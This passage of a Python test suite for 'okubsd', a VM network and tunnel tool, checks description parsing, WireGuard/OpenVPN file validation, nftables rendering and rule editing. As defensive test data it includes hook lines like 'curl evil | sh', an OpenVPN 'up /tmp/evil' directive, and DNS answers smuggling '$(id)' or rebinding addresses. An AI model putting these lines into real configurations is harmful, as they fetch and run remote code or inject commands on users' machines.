"""Networks without any: descriptions, tunnels' files, rules, and what is rendered from them."""

from __future__ import annotations

import base64
import os
import subprocess
import time
from pathlib import Path
from xml.etree import ElementTree

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from okubsd.cli.main import call
from okubsd.config.description import parse_description
from okubsd.config.edit import add_rule, remove_rule, render_element
from okubsd.config.fields import parse_moment
from okubsd.config.recipe import parse_recipe
from okubsd.config.rule import parse_rule, render_rule
from okubsd.errors import BadDescription, HostLacks, Problem
from okubsd.host import walls
from okubsd.host.tunnels import read_tunnels
from okubsd.model import Description, Network, NetworkKind, Vm
from okubsd.nft.render import Client, render_gateway, render_names, render_namespace
from okubsd.plan.gateway import (
    Clients,
    GatewayConf,
    clients_of,
    gateway_entries,
    gateway_of,
    gateway_texts,
    gateway_wires,
    implied_gateway,
    need_link,
    need_tunnel,
)
from okubsd.plan.graph import draw, render_svg, render_text
from okubsd.plan.why import decide, passers_of
from okubsd.recipe import Proxy
from okubsd.rules import Bandwidth, Rule, named_sets
from okubsd.vpn.openvpn import parse_openvpn, render_config
from okubsd.vpn.status import parse_ifconfig_wg, parse_wg_show
from okubsd.vpn.wg_quick import parse_wg_quick, render_setconf
from tests.conftest import CHECKOUT, same_as_file

RECIPES = {
    "term": parse_recipe("term", Path("r"), "from: base\napps: {app: [a]}\n"),
    "vpn-gateway": parse_recipe(
        "vpn-gateway",
        Path("r"),
        "from: base\ngateway: yes\npackages: [iproute2, nftables, dnsmasq-base, wireguard-tools]\n",
    ),
    "tor-gateway": parse_recipe(
        "tor-gateway",
        Path("r"),
        "from: base\ngateway: yes\npackages: [iproute2, nftables]\nproxy: {tcp: 9040, dns: 9053, user: debian-tor}\n",
    ),
}


def wish_of(text: str) -> Description:
    return parse_description(Path("/c/okubsd.yaml"), text, [], RECIPES)


def mistakes_of(text: str) -> tuple[str, ...]:
    with pytest.raises(BadDescription) as error:
        wish_of(text)
    return error.value.mistakes


# --- the description --------------------------------------------------------------------------

LOOP = (
    "networks: {x: {gateway: a}, y: {gateway: b}, z: {gateway: c}}\n"
    "vms: {a: {image: tor-gateway, network: y}, b: {image: tor-gateway, network: z},"
    " c: {image: tor-gateway, network: x}}"
)
BROKEN = {
    "a loop": (LOOP, "the gateways go in a circle: a -> b -> c -> a"),
    "its own gateway": ("networks: {x: {gateway: a}}\nvms: {a: {image: tor-gateway, network: x}}", "circle: a -> a"),
    "no such gateway": ("networks: {x: {gateway: onoin}}\nvms: {onion: {image: tor-gateway}, t: {image: term, network: x}}", "there is no VM 'onoin'; did you mean 'onion'?"),
    "no gateway": ("networks: {x: {gateway: t}}\nvms: {t: {image: term}, u: {image: term, network: x}}", "VM 't' is no gateway; the images of gateways are tor-gateway, vpn-gateway"),
    "no such network": ("networks: {proton: {nat: yes}}\nvms: {t: {image: term, network: protn}}", "there is no network 'protn', there are none, nat, proton; did you mean 'proton'?"),
    "nat again": ("networks: {nat: {nat: yes}}", "'nat' is there already and cannot be changed"),
    "a network of nothing": ("networks: {x: {resolver: 9.9.9.9}}", "a network with one of the keys wireguard, openvpn"),
    "two ways": ("networks: {x: {nat: yes, gateway: a}}", "a network with one of the keys"),
    "a name with a dot": ("networks: {a.b: {nat: yes}}", "is no name for a network"),
    "a name too long": ("networks: {%s: {nat: yes}}" % ("n" * 30), "is no name for a network"),
    "networks as a list": ("networks: [a]", "a mapping of network names"),
    "an unknown key": ("networks: {x: {wiregard: f}}", "did you mean 'wireguard'?"),
    "a switch without prefix": ("networks: {x: {switch: 10.1.1.1}}", "an address with its prefix"),
    "a switch at the network": ("networks: {x: {switch: 10.1.1.0/24}}", "an address with its prefix"),
    "a switch too small": ("networks: {x: {switch: 10.1.1.1/31}}", "an address with its prefix"),
    "meet without a switch": ("networks: {x: {nat: yes, meet: yes}}", "only the VMs on a switch can meet"),
    "a resolver on loopback": ("networks: {x: {nat: yes, resolver: 127.0.0.1}}", "of another host"),
    "rules on none": ("vms: {t: {image: term, network: none, allow: [any]}}", "nothing leaves the network 'none'"),
    "no rule": ("vms: {t: {image: term, allow: [{until: 2027-01-01}]}}", "a rule: [tcp|udp|icmp] TARGET"),
    "a rule with host bits": ("vms: {t: {image: term, allow: [10.0.0.1/8]}}", "the network is 10.0.0.0/8"),
    "a rule with a bad prefix": ("vms: {t: {image: term, allow: [10.0.0.0/33]}}", "prefix that is not from 0 to 32"),
    "a rule with a bad port": ("vms: {t: {image: term, allow: ['any:70000']}}", "ports that are not from 1 to 65535"),
    "a rule with turned ports": ("vms: {t: {image: term, allow: ['any:20-10']}}", "ports that are not from"),
    "a rule with icmp ports": ("vms: {t: {image: term, allow: ['icmp any:5']}}", "has ports, and icmp has none"),
    "a rule with one word": ("vms: {t: {image: term, allow: [localhost]}}", "names neither a host"),
    "a rule with IPv6": ("vms: {t: {image: term, allow: ['2001:db8::1']}}", "it is not of this form"),
    "a rule with a bad time": ("vms: {t: {image: term, allow: [{to: any, until: tomorrow}]}}", "a date or a date and time"),
    "a rule with no date": ("vms: {t: {image: term, allow: [{to: any, until: 2027-02-30}]}}", "a date or a date"),
    "a rule with escapes": ("vms: {t: {image: term, allow: [{to: any, comment: \"a\\e[31m\"}]}}", "a comment of one line"),
    "an unknown preset": ("vms: {t: {image: term, preset: webb}}", "did you mean 'web'?"),
    "bandwidth in bytes": ("vms: {t: {image: term, bandwidth: {down: 5}}}", "bits per second from 16K to 4G"),
    "bandwidth of nothing": ("vms: {t: {image: term, bandwidth: {up: 1K}}}", "bits per second from"),
    "a tunnel of no gateway": ("vms: {t: {image: term, tunnel: a.conf}}", "only a gateway has a tunnel"),
    "a name of a made gateway": ("networks: {p: {wireguard: f}}\nvms: {p.gw: {image: term}, t: {image: term, network: p}}", "this is the name of the gateway of network 'p'"),
    "an uplink with a space": ("host: {uplink: 'em 0'}", "the name of an interface"),
    "too many behind one": ("networks: {p: {gateway: w}}\nvms: {w: {image: vpn-gateway, tunnel: x}, " + ", ".join(f"v{i}: {{image: term, network: p}}" for i in range(17)) + "}", "17 VMs go through 'w', and a gateway takes 16"),
}  # fmt: skip


@pytest.mark.parametrize(("text", "said"), BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_network_is_one_sentence(text: str, said: str) -> None:
    found = mistakes_of(text if "vms" in text else f"{text}\nvms: {{}}")
    assert any(said in line for line in found), found
    assert all("\n" not in line and "\x1b" not in line for line in found)


def test_a_description_of_networks_is_read() -> None:
    description = wish_of(
        "networks:\n  proton: {wireguard: p.conf, resolver: 10.2.0.1}\n  tor: {gateway: onion}\n"
        "  lab: {switch: 10.77.0.1/24, meet: yes}\n"
        "vms:\n  onion: {image: tor-gateway}\n  a: {image: term, network: proton, preset: web,\n"
        "    allow: [example.org:443, {to: '192.168.1.5', protocol: tcp, until: 2027-01-31, comment: x}],\n"
        "    bandwidth: {down: 20M}}\n  b: {image: term, network: tor}\n"
    )
    a, b = description.vms[1:]
    assert (a.network.kind, a.network.file, a.network.resolver) == (NetworkKind.WIREGUARD, "/c/p.conf", "10.2.0.1")
    assert a.bandwidth == Bandwidth(down=20_000_000) and b.network.gateway == "onion"
    first, second, *preset = a.rules
    assert (first.target, first.ports, first.line) == ("example.org", ((443, 443),), 8)
    assert (second.target, second.protocol, second.comment) == ("192.168.1.5/32", "tcp", "x")
    assert second.until == parse_moment("2027-01-31") and [rule.allow for rule in preset] == [True, True, False]


def test_who_goes_through_whom() -> None:
    description = wish_of(
        "networks: {p: {wireguard: p.conf}, tor: {gateway: onion}, w: {openvpn: w.ovpn}, s: {switch: 10.0.0.1/24}}\n"
        "vms: {onion: {image: tor-gateway, network: p}, a: {image: term, network: p}, b: {image: term, network: tor},"
        " c: {image: term, network: w}, d: {image: term, network: s}, e: {image: term}}"
    )
    onion, a, b, c, d, e = description.vms
    made = implied_gateway(a.network)
    assert gateway_of(a, description) == made and made.name == "p.gw" and gateway_of(onion, description) == made
    assert gateway_of(b, description) == onion and gateway_of(e, description) is None
    assert [vm.name for vm in clients_of(made, description)] == ["onion", "a"]
    for vm in (c, d):
        with pytest.raises(HostLacks, match="needs the interfaces of OpenBSD"):
            gateway_of(vm, description)
    wires = gateway_wires(Clients(names=("onion", "a")), Path("/run/p.gw"))
    assert [(str(w.here), str(w.there)) for w in wires] == [
        ("/run/p.gw/link-onion", "/run/onion/link"), ("/run/p.gw/link-a", "/run/a/link"),
    ]  # fmt: skip
    assert need_link(a, made, Clients(names=("onion", "a"))) == 2
    with pytest.raises(Problem, match="runs without a link to it"):
        need_link(a, made, Clients(names=("onion",)))


@given(st.text(max_size=40))
def test_a_rule_is_read_or_refused_in_words(text: str) -> None:
    try:
        rule = parse_rule(text, allow=True)
    except ValueError as error:
        assert str(error)
        return
    assert parse_rule(render_rule(rule), allow=True) == rule


@pytest.mark.parametrize(
    "text", ["any", "any:80", "tcp any:80,443,1000-2000", "icmp 10.0.0.0/8", "a.example.org:53", "198.51.100.7"]
)
def test_a_rule_is_written_as_it_is_read(text: str) -> None:
    assert render_rule(parse_rule(text, allow=True)) == text


# --- tunnels' files ---------------------------------------------------------------------------


def key(letter: bytes) -> str:
    return base64.b64encode(letter * 32).decode()


GOOD = {
    "interface": [f"PrivateKey = {key(b'a')}", "Address = 10.66.0.2/32, fd00::2/128", "DNS = 10.64.0.1", "MTU = 1400"],
    "peer": [f"PublicKey = {key(b'b')}", f"PresharedKey = {key(b'c')}", "AllowedIPs = 0.0.0.0/0, ::/0",
             "Endpoint = 198.51.100.7:51820", "PersistentKeepalive = 25"],
}  # fmt: skip


def wg_text(interface: list[str] | None = None, peer: list[str] | None = None, after: str = "") -> str:
    lines = ["[Interface]", *(GOOD["interface"] if interface is None else interface), "", "[Peer]"]
    return "\n".join([*lines, *(GOOD["peer"] if peer is None else peer)]) + "\n" + after


def test_an_ordinary_file_is_read() -> None:
    tunnel = parse_wg_quick(Path("p.conf"), "# Key for a laptop\n" + wg_text())
    assert tunnel.addresses == ("10.66.0.2/32",) and tunnel.resolvers == ("10.64.0.1",) and tunnel.mtu == 1400
    (peer,) = tunnel.peers
    assert peer.allowed == ("0.0.0.0/0",) and peer.endpoint == ("198.51.100.7", 51820) and peer.keepalive == 25
    assert key(b"a") not in repr(tunnel) and key(b"a") in render_setconf(tunnel)


def without(section: str, name: str) -> list[str]:
    return [line for line in GOOD[section] if not line.startswith(name)]


def changed(section: str, name: str, value: str) -> list[str]:
    return [f"{name} = {value}" if line.startswith(name) else line for line in GOOD[section]]


SECOND = f"[Peer]\nPublicKey = {key(b'd')}\nAllowedIPs = 10.0.0.0/8\nEndpoint = 198.51.100.8:51820\n"
HOOKS = ("PreUp", "PostUp", "PreDown", "PostDown", "postup")
BROKEN_WG = {
    "nothing": ("", "there is no [Interface]"),
    "no interface": ("[Peer]\n" + "\n".join(GOOD["peer"]), "there is no [Interface]"),
    "no peer": ("[Interface]\n" + "\n".join(GOOD["interface"]), "there is no [Peer]"),
    "two interfaces": (wg_text(after="[Interface]\n" + "\n".join(GOOD["interface"])), "a second [Interface], the first is on line 1"),
    "no private key": (wg_text(without("interface", "PrivateKey")), "[Interface] has no 'PrivateKey'"),
    "no address": (wg_text(without("interface", "Address")), "[Interface] has no 'Address'"),
    "only IPv6": (wg_text(changed("interface", "Address", "fd00::2/128")), "'address' has no IPv4 address"),
    "no public key": (wg_text(peer=without("peer", "PublicKey")), "[Peer] has no 'PublicKey'"),
    "no allowed addresses": (wg_text(peer=without("peer", "AllowedIPs")), "[Peer] has no 'AllowedIPs'"),
    "no endpoint": (wg_text(peer=without("peer", "Endpoint")), "no [Peer] has an 'Endpoint'"),
    "a short key": (wg_text(changed("interface", "PrivateKey", base64.b64encode(b"x" * 31).decode())), "has 31 bytes, and a key has 32"),
    "no base64": (wg_text(changed("interface", "PrivateKey", "secret!")), "is not base64"),
    "a name as endpoint": (wg_text(peer=changed("peer", "Endpoint", "vpn.example.org:51820")), "a name would have to be looked up outside the tunnel"),
    "IPv6 endpoint": (wg_text(peer=changed("peer", "Endpoint", "[2001:db8::1]:51820")), "by IPv4 only"),
    "loopback as endpoint": (wg_text(peer=changed("peer", "Endpoint", "127.0.0.1:1")), "is not the address of another host"),
    "no port": (wg_text(peer=changed("peer", "Endpoint", "198.51.100.7")), "no ADDRESS:PORT"),
    "port 0": (wg_text(peer=changed("peer", "Endpoint", "198.51.100.7:0")), "is not from 1 to 65535"),
    "the same network twice": (wg_text(after=SECOND.replace("10.0.0.0/8", "0.0.0.0/0")), "'AllowedIPs' 0.0.0.0/0 is that of the [Peer] on line 7, too"),
    "the same peer twice": (wg_text(after=SECOND.replace(key(b"d"), key(b"b"))), "has the public key of the one on line 7"),
    "a bad MTU": (wg_text(changed("interface", "MTU", "100")), "is not from 576 to 9000"),
    "a resolver that is none": (wg_text(changed("interface", "DNS", "10.0.0.1, a b")), "neither an address nor a search domain"),
    "a resolver on loopback": (wg_text(changed("interface", "DNS", "127.0.0.1")), "cannot be a resolver behind"),
    "a key twice": (wg_text([*GOOD["interface"], "MTU = 1300"]), "'MTU' is written twice, first on line 5"),
    "an unknown key": (wg_text([*GOOD["interface"], "Adress = 1"]), "did you mean 'address'?"),
    "a hook": (wg_text([*GOOD["interface"], "PostUp = iptables -A x"]), "runs a command"),
    "a line of nothing": (wg_text([*GOOD["interface"], "hello"]), "this is no 'Key = value'"),
    "an unknown section": (wg_text(after="[Hooks]\nUp = id\n"), "is not known; there are [Interface] and [Peer]"),
    "before any section": ("MTU = 1400\n" + wg_text(), "stands before any section"),
    "binary": (wg_text() + "\0", "larger than 64 KiB, or not text"),
    "too large": (wg_text() + "#" * 70000, "larger than 64 KiB"),
    **{f"hook {name}": (wg_text([*GOOD["interface"], f"{name} = curl evil | sh"]), f"'{name}' runs a command") for name in HOOKS},
}  # fmt: skip


@pytest.mark.parametrize(("text", "said"), BROKEN_WG.values(), ids=BROKEN_WG.keys())
def test_a_broken_tunnel_is_told_in_words_and_without_keys(text: str, said: str) -> None:
    with pytest.raises(BadDescription) as error:
        parse_wg_quick(Path("p.conf"), text)
    assert any(said in line for line in error.value.mistakes), error.value.mistakes
    told = "\n".join(error.value.mistakes)
    assert all(key(letter) not in told for letter in (b"a", b"c")) and "evil" not in told


LINES = [*GOOD["interface"], *GOOD["peer"], "PostUp = id", "[Interface]", "[Peer]", "Endpoint = a.example:1",
         f"PrivateKey = {key(b'z')[:-2]}", "AllowedIPs = 10.0.0.0/8", "", "# comment", "Address = 10.0.0.300"]  # fmt: skip


@given(st.data())
@settings(max_examples=300, deadline=None)
def test_any_damage_is_refused_or_harmless(data: st.DataObject) -> None:
    """Lines taken out, doubled, moved and put in: what is taken has every key, no hook, and says what it said."""
    lines = wg_text().splitlines()
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(lines) - 1))
        match data.draw(st.sampled_from(["out", "twice", "in", "letter"])):
            case "out":
                lines = lines[:at] + lines[at + 1 :] or [""]
            case "twice":
                lines.insert(at, lines[at])
            case "in":
                lines.insert(at, data.draw(st.sampled_from(LINES)))
            case _:
                lines[at] = (
                    lines[at][: len(lines[at]) // 2] + data.draw(st.text(max_size=2)) + lines[at][len(lines[at]) // 2 :]
                )
    text = "\n".join(lines)
    try:
        tunnel = parse_wg_quick(Path("p.conf"), text)
    except BadDescription as error:
        assert error.mistakes and all("p.conf" in line and key(b"a") not in line for line in error.mistakes)
        return
    assert len(base64.b64decode(tunnel.private_key)) == 32 and tunnel.addresses
    assert tunnel.peers and any(peer.endpoint for peer in tunnel.peers)
    assert not any(hook.lower() in render_setconf(tunnel).lower() for hook in HOOKS)
    assert parse_wg_quick(Path("p.conf"), text) == tunnel


OVPN = "client\ndev tun\nremote 198.51.100.9 1194\nredirect-gateway def1\n# by the provider\n<ca>\n-----BEGIN CERTIFICATE-----\nMIIBAAAA\n-----END CERTIFICATE-----\n</ca>\n"


PROVIDER_LINES = """\ufeff[Interface]
PrivateKey = {0}
Address = 10.2.0.2/32
DNS = 10.2.0.1, lan, fritz.box
MTU = 0
ListenPort = 0
Table = off
FwMark = 0xca6c
SaveConfig = true
PreUp =
PostUp =

[Peer]
PublicKey = {1}
PresharedKey =
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = 198.51.100.7:51820
"""


def test_what_routers_and_providers_write_is_taken_and_told() -> None:
    tunnel = parse_wg_quick(Path("p.conf"), PROVIDER_LINES.format(key(b"a"), key(b"b")))
    assert (tunnel.resolvers, tunnel.mtu, tunnel.port) == (("10.2.0.1",), 1420, None)
    assert tunnel.peers[0].preshared_key == "" and tunnel.peers[0].allowed == ("0.0.0.0/0",)
    assert {phrase.split()[0] for phrase in tunnel.passed_over} == {"'DNS'", "'Table'", "'FwMark'", "'SaveConfig'"}


def test_a_narrower_network_of_another_peer_is_taken() -> None:
    tunnel = parse_wg_quick(Path("p.conf"), wg_text(after=SECOND))
    assert [peer.allowed for peer in tunnel.peers] == [("0.0.0.0/0",), ("10.0.0.0/8",)]


@pytest.mark.spawns
@pytest.mark.parametrize("text", [wg_text(after=SECOND), PROVIDER_LINES.format(key(b"a"), key(b"b"))])
def test_wg_itself_takes_what_is_rendered(text: str, tmp_path: Path) -> None:
    (tmp_path / "x").write_text(render_setconf(parse_wg_quick(Path("p.conf"), text)))
    done = subprocess.run(
        ["wg", "setconf", "okubsd-none", str(tmp_path / "x")], capture_output=True, text=True, check=False
    )
    assert "Unable to modify interface" in done.stderr and "nrecognized" not in done.stderr, done.stderr


def test_two_networks_with_one_key_are_told(tmp_path: Path) -> None:
    for name in ("a.conf", "b.conf"):
        (tmp_path / name).write_text(wg_text())
        (tmp_path / name).chmod(0o600)
    networks = [Network(name=name, kind=NetworkKind.WIREGUARD, file=str(tmp_path / f"{name}.conf")) for name in "ab"]
    with pytest.raises(BadDescription, match="the tunnels of 'a' and 'b' have the same private key"):
        read_tunnels(networks, ())
    (tmp_path / "b.conf").chmod(0o640)
    with pytest.raises(BadDescription, match="can be read by others"):
        read_tunnels(networks, ())


def test_an_address_of_our_own_is_told() -> None:
    for address in ("10.0.2.15/32", "10.0.3.7/24", "100.126.1.3/32"):
        tunnel = parse_wg_quick(Path("p"), wg_text(changed("interface", "Address", address)))
        with pytest.raises(Problem, match="which a guest's own links have"):
            need_tunnel(Vm(name="g", image="vpn-gateway"), RECIPES["vpn-gateway"], tunnel)
    with pytest.raises(Problem, match="'g' is a gateway without a tunnel"):
        need_tunnel(Vm(name="g", image="vpn-gateway"), RECIPES["vpn-gateway"], None)
    need_tunnel(Vm(name="o", image="tor-gateway"), RECIPES["tor-gateway"], None)


def test_each_network_has_its_resolver_whatever_gateway_it_is() -> None:
    description = wish_of(
        "networks: {p: {gateway: w}, q: {gateway: w, resolver: 192.0.2.53}}\n"
        "vms: {w: {image: vpn-gateway, tunnel: x}, a: {image: term, network: p}, b: {image: term, network: q}}"
    )
    clients = Clients(names=("a", "b"), resolver="9.9.9.9")
    tunnel = parse_wg_quick(Path("p"), wg_text())
    told = gateway_texts(description.vms[1:], clients, tunnel, None, 0.0)
    assert told["resolvers"] == "53 10.64.0.1\n5301 192.0.2.53\n"
    assert (
        'iifname "eth1" ip saddr 100.126.1.3 meta l4proto { tcp, udp } th dport 53 counter name asked1 redirect to :53\n'
        in told["rules"]
    )
    assert "asked2 redirect to :5301\n" in told["rules"]
    for address in ("10.64.0.1", "192.0.2.53"):
        assert f'oifname "wg0" ip daddr {address} meta' in told["rules"]
    bare = parse_wg_quick(Path("p"), wg_text(without("interface", "DNS")))
    assert gateway_texts(description.vms[1:2], clients, bare, None, 0.0)["resolvers"] == "53 9.9.9.9\n"
    same = Clients(names=("a", "b"), resolver="192.0.2.53")
    assert gateway_texts(description.vms[1:], same, None, None, 0.0)["resolvers"] == "53 192.0.2.53\n"
    assert gateway_texts(description.vms[1:], clients, None, RECIPES["tor-gateway"].proxy, 0.0)["resolvers"] == ""


def test_an_openvpn_file_is_taken_without_what_is_ours() -> None:
    client = parse_openvpn(Path("w.ovpn"), OVPN)
    assert render_config(client) == "nobind\nclient\nremote 198.51.100.9 1194\n" + OVPN[OVPN.index("<ca>") :]


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("up /tmp/evil", "'up' runs a command"), ("script-security 2", "runs a command"), ("plugin x.so", "loads a library"),
        ("daemon", "is for okubsd to say"), ("dev tap", "is for okubsd to say"),
        ("management 127.0.0.1 7505", "opens openvpn to other programs"), ("remot x", "did you mean 'remote'?"),
        ("remote vpn.example.org 1194", "which would be looked up outside the tunnel"), ("cert keys/own.crt", "put its contents into the file"),
        ("<key>\nPEM", "<key> does not end"), ("<remote>\nx\n</remote>", "<remote> is not known here"),
    ],
)  # fmt: skip
def test_a_broken_openvpn_file_is_told_in_words(line: str, said: str) -> None:
    with pytest.raises(BadDescription) as error:
        parse_openvpn(Path("w.ovpn"), OVPN + line + "\n")
    assert any(said in mistake for mistake in error.value.mistakes), error.value.mistakes


# --- rules for nft ----------------------------------------------------------------------------


def rules(*rules: tuple[bool, str], **values: int) -> tuple[Rule, ...]:
    return tuple(
        msgspec.structs.replace(parse_rule(text, allow=allow), line=number, **values)
        for number, (allow, text) in enumerate(rules, 1)
    )


NFT = {
    "gateway": render_gateway(
        (
            Client(name="a", interface="eth1", address="100.126.1.3", bandwidth=Bandwidth(down=20_000_000, up=1_000_000),
                   rules=rules((False, "any"), (True, "example.org:443"), (True, "tcp 192.168.1.5:80,8000-8010"))),
            Client(name="b", interface="eth2", address="100.126.2.3", rules=rules((False, "any"))),
            Client(name="c", interface="eth3", address="100.126.3.3", dns=5301, rules=rules((True, "icmp any"), until=1795600000)),
        ),
        out="wg0", endpoints=[("198.51.100.7", 51820)], resolvers=["10.64.0.1", "192.0.2.53"], now=1795500000.0,
    ),
    "proxy": render_gateway(
        (Client(name="a", interface="eth1", address="100.126.1.3", rules=rules((False, "any:25"))),),
        out="eth0", endpoints=(), now=0.0, proxy=Proxy(tcp=9040, dns=9053, user="nobody"),
    ),
    "namespace": render_namespace(
        rules((False, "any"), (True, "example.org"), (True, "198.51.100.0/24:22")), Bandwidth(up=512_000),
        host=["192.0.2.10"], asked="10.0.3.3", resolver="", now=0.0,
    ),
    "resolver": render_namespace((), Bandwidth(), host=[], asked="10.0.3.3", resolver="192.0.2.53", now=0.0),
}  # fmt: skip


@pytest.mark.parametrize("name", NFT)
def test_the_rules_for_nft_are_as_expected(name: str) -> None:
    same_as_file(CHECKOUT / f"tests/golden/{name}.nft", NFT[name])


@pytest.mark.spawns
@pytest.mark.parametrize("name", NFT)
def test_nft_takes_the_rules(name: str, tmp_path: Path) -> None:
    (tmp_path / "rules").write_text(NFT[name])
    root = () if os.geteuid() == 0 else ("--user", "--map-root-user")
    # Twice: the table that is there is replaced.
    script = f"nft -f {tmp_path}/rules && nft -f {tmp_path}/rules && nft list ruleset"
    done = subprocess.run(["unshare", *root, "--net", "sh", "-c", script], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("table ") == 1


def test_a_rule_that_is_over_is_left_out_and_one_that_ends_says_when() -> None:
    over = render_namespace(rules((True, "10.0.0.1"), until=99), Bandwidth(), host=[], asked="", resolver="", now=100.0)
    lasting = render_namespace(
        rules((True, "10.0.0.1"), until=101), Bandwidth(), host=[], asked="", resolver="", now=100.0
    )
    assert "10.0.0.1" not in over and "meta time < 101 ip daddr 10.0.0.1/32" in lasting


# --- names ------------------------------------------------------------------------------------

# What drill(1) prints around the answers, and what a hostile server would like to be one.
_DRILL = """#!/bin/sh
for word; do name=$host; case $word in *.*) host=$word ;; esac; done
[ -e "$ANSWERS/$host" ] || { echo "Error: error sending query: No (valid) nameservers defined in the resolver"; exit 1; }
cat <<END
;; ->>HEADER<<- opcode: QUERY, rcode: NOERROR, id: 30427
;; flags: qr rd ra ; QUERY: 1, ANSWER: 2, AUTHORITY: 1, ADDITIONAL: 1
;; QUESTION SECTION:
;; $host.	IN	A

;; ANSWER SECTION:
$(cat "$ANSWERS/$host")

;; AUTHORITY SECTION:
$host.	60	IN	A	203.0.113.66

;; ADDITIONAL SECTION:
$host.	60	IN	A	203.0.113.67

;; Query time: 1 msec
;; SERVER: 9.9.9.9
;; WHEN: Thu Nov 26 15:00:00 2026
;; MSG SIZE  rcvd: 84
END
"""
_NFT = """#!/bin/sh
cat >>"$ANSWERS/told"
[ ! -e "$ANSWERS/broken" ]
"""


@pytest.mark.spawns
def test_the_program_names_fills_sets_and_fails_small(tmp_path: Path) -> None:
    for name, text in (("drill", _DRILL), ("nft", _NFT)):
        (tmp_path / name).write_text(text)
        (tmp_path / name).chmod(0o755)
    answers = {
        "good.example.org": "good.example.org.\t9\tIN\tA\t203.0.113.5\ngood.example.org. 7 IN A 203.0.113.6\n",
        "alias.example.org": "alias.example.org. 60 IN CNAME x.example.org.\nx.example.org. 60 IN A 203.0.113.7\n",
        "rebound.example.org": "".join(
            f"rebound.example.org. 60 IN A {address}\n"
            for address in ("10.0.0.1", "127.0.0.1", "192.168.1.1", "172.20.0.1", "100.100.0.1", "169.254.169.254",
                            "224.0.0.1", "255.255.255.255", "0.0.0.0", "1.2.3.4;id", "1..2.3", "::1", "$(id)")
        ),
        "junk.example.org": "junk IN\n\x1b[31m\nx y IN A 1.2.3.4\n",
    }  # fmt: skip
    for name, text in answers.items():
        (tmp_path / name).write_text(text)
    names = ("good.example.org", "dead.example.org", "alias.example.org", "rebound.example.org", "junk.example.org")
    sets = named_sets(Rule(allow=True, target=name) for name in names)
    (tmp_path / "file").write_text(render_names(sets))
    script = (
        (CHECKOUT / "images/base/files/usr/lib/okubsd/names")
        .read_text()
        .replace("PATH=/usr/local/bin:", f"PATH={tmp_path}:/usr/local/bin:")
    )
    (tmp_path / "names").write_text(script)
    (tmp_path / "life").touch()
    env = {**os.environ, "ANSWERS": str(tmp_path)}
    # Nobody holds the lock file: one round, and it ends by itself.
    done = subprocess.run(["sh", str(tmp_path / "names"), "file", "nft", "life"], cwd=tmp_path, env=env, timeout=30,
                          capture_output=True, text=True, check=False)  # fmt: skip
    assert done.returncode == 0 and done.stderr == "", done.stderr
    told = (tmp_path / "told").read_text()
    assert "add element inet okubsd name1 {203.0.113.5, 203.0.113.6 }" in told
    assert "add element inet okubsd name3 {203.0.113.7 }" in told
    assert told.count("add element") == 2 and told.count("flush set") == 5 and "id" not in told
    from okubsd.host.rules import parse_names

    # What is known fills new sets before anybody is asked again.
    coming = "dead.example.org name1\ngood.example.org name2\nnew.example.org name3\n"
    for kept, expected in (
        ("file.state", "add element inet okubsd name2 {203.0.113.5, 203.0.113.6 }\n"),
        ("none", ""),
    ):
        argv = ["sh", str(tmp_path / "names"), "/dev/stdin", "known", kept]
        known = subprocess.run(argv, input=coming, cwd=tmp_path, env=env, capture_output=True, text=True, check=True)
        assert (known.stdout, known.stderr) == (expected, "")
    state = parse_names((tmp_path / "file.state").read_text())
    assert state[0] == "good.example.org: 203.0.113.5 203.0.113.6"
    assert state[1] == "dead.example.org: does not answer, so its rule does nothing"
    assert state[3] == "rebound.example.org: has only addresses that a name may not open, so its rule does nothing"
    due = [line.split() for line in (tmp_path / "file.due").read_text().splitlines()]
    assert 4 <= int(due[0][1]) - int(due[0][2]) <= 8, "asked again when the shortest time is over"


# --- editing the description --------------------------------------------------------------------

EDITED = """\
# top
vms:
  a:          # one
    image: term
    allow:    # what it may
      - any:80    # web
      # between
      - {to: any:443, comment: x}
    home: 1G  # last

  b: {image: term, deny: [any]}
  # the end of b
  c:
    image: term
"""
EDITS = {
    "block list": (lambda: add_rule(EDITED, "a", "allow", "any:22"), "      - {to: any:443, comment: x}\n      - any:22\n    home"),
    "new key": (lambda: add_rule(EDITED, "a", "deny", "any:25"), "    home: 1G  # last\n    deny:\n      - any:25\n\n  b"),
    "flow list": (lambda: add_rule(EDITED, "b", "deny", "any:25"), "b: {image: term, deny: [any, any:25]}\n"),
    "flow mapping": (lambda: add_rule(EDITED, "b", "allow", '"tcp any:1,2"'), 'deny: [any], allow: ["tcp any:1,2"]}\n'),
    "last": (lambda: add_rule(EDITED, "c", "allow", "any:22"), "  c:\n    image: term\n    allow:\n      - any:22\n"),
    "out of a list": (lambda: remove_rule(EDITED, "a", "allow", 0), "# what it may\n      # between\n      - {to"),
    "the last of it": (lambda: remove_rule(EDITED, "b", "deny", 0), "  b: {image: term}\n"),
    "no newline": (lambda: add_rule(EDITED.rstrip(), "c", "allow", "any:22"), "    image: term\n    allow:\n      - any:22\n"),
}  # fmt: skip


@pytest.mark.parametrize("name", EDITS)
def test_a_rule_is_put_in_its_place_and_all_else_stays(name: str) -> None:
    edit, expected = EDITS[name]
    text = edit()
    assert expected in text
    for comment in ("# top", "# one", "# between", "# last", "# the end of b"):
        assert comment in text
    wish_of(text)


@given(
    st.lists(
        st.tuples(st.sampled_from("abc"), st.booleans(), st.integers(1, 65535)), min_size=1, max_size=6, unique=True
    ),
    st.booleans(),
)
@settings(max_examples=80, deadline=None)
def test_what_was_put_in_comes_out_again(rules: list[tuple[str, bool, int]], described: bool) -> None:
    text = EDITED
    for vm, allow, port in rules:
        element = render_element(f"tcp any:{port},1", *(("2030-01-01", 'say "x", #y') if described else ()))
        text = add_rule(text, vm, "allow" if allow else "deny", element)
    description = wish_of(text)
    assert sum(len(vm.rules) for vm in description.vms) == 3 + len(rules)
    for vm, allow, _ in reversed(rules):
        own = [rule for rule in next(v for v in description.vms if v.name == vm).rules if rule.allow == allow]
        text = remove_rule(text, vm, "allow" if allow else "deny", len(own) - 1)
        description = wish_of(text)
    assert text == EDITED


def test_a_place_that_is_no_list_is_told() -> None:
    with pytest.raises(Problem, match="'allow' is no list there"):
        add_rule("vms: {a: {image: term, allow: any}}", "a", "allow", "any")
    with pytest.raises(Problem, match="there is no such rule"):
